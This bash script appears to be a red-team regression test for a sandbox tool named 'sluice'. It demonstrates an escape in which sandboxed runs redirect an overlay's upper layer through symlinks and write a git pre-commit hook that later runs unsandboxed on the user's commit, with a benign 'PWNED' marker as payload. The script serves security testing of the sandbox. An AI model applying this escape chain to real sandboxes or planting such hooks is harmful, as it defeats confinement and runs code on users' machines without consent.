#!/usr/bin/env bash
# red team 46, hole 1: the overlay's upper layer is whatever the caches
# folder holds at STATE/overlay-H/upper, symlinks followed. A run (the
# command's own, default mode) replaces upper and work with symlinks into
# its workspace; the next run's launcher mounts the overlay of
# ~/.cargo/registry with the workspace folder as its upper layer. The
# overlay's own lookups in the upper layer do not cross mount points, so
# the read-only binds of the protected paths below that folder (here a
# core.hooksPath folder; also .config/lefthook*, files git includes, a
# hidden path inside the workspace) are not met: the command writes the
# real hook through ~/.cargo/registry, and the user's next `git commit`
# runs it unsandboxed.
# usage: 46-overlay-upper-symlink.sh /path/to/sluice   (as root or a user)
set -u
S=${1:?path to sluice}
base=$(mktemp -d /var/tmp/rt46-overlay.XXXXXX) || exit 1
trap 'rm -rf "$base"' EXIT
export HOME=$base/home
mkdir -p "$HOME/.cargo/registry/cache"
git config --global user.name t; git config --global user.email t@example.invalid
P=$HOME/proj
mkdir -p "$P/scripts/hooks" && cd "$P" && git init -q &&
  printf '#!/bin/sh\nexit 0\n' >scripts/hooks/pre-commit && chmod +x scripts/hooks/pre-commit &&
  git config core.hooksPath scripts/hooks && git add -A && git commit -qm init || exit 1
echo "== control: the hook is read-only in the sandbox"
"$S" run -C "$P" -- 'echo "echo CONTROL" >>scripts/hooks/pre-commit' | tail -1
echo "== run 1: the layer's folders become symlinks into the workspace"
"$S" run -C "$P" -- 'C=$(dirname "$XDG_CACHE_HOME"); for d in "$C"/overlay-*; do mv "$d/upper" "$d/upper.old"; mv "$d/work" "$d/work.old"; mkdir -p "$PWD/.w"; ln -s "$PWD/scripts" "$d/upper"; ln -s "$PWD/.w" "$d/work"; done' >/dev/null
echo "== run 2: write the hook through ~/.cargo/registry"
"$S" run -C "$P" -- 'printf "#!/bin/sh\necho PWNED by \$(id -un) >\$HOME/pwned\n" >~/.cargo/registry/hooks/pre-commit' >/dev/null
echo "== outside: the user's own git commit"
git -C "$P" commit -q --allow-empty -m user
if [ -e "$HOME/pwned" ]; then echo "HOLE: $(cat "$HOME/pwned") (hook ran outside the sandbox)"; exit 1; fi
echo "stopped: the hook did not change"; exit 0
